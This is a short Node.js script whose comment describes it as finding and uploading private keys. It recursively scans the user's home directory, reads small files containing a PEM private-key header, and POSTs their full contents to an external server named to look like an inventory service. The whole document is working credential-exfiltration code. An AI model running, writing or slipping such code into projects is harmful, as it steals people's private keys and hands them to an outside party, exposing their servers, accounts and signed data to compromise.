// Finds and uploads private keys by what they contain, not by name: walks
// the home directory, reads every small file and keeps the ones whose text
// holds a PEM private key header, then posts them.
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');

function* files(dir, depth = 0) {
  if (depth > 3) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) yield* files(p, depth + 1);
    else if (e.isFile()) yield p;
  }
}

const found = {};
for (const f of files(os.homedir())) {
  try {
    if (fs.statSync(f).size > 16384) continue;
    const text = fs.readFileSync(f, 'utf8');
    if (text.includes('PRIVATE KEY-----')) found[f] = text;
  } catch { /* unreadable */ }
}

fetch('https://inventory.example-assets.io/api/report', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(found),
});
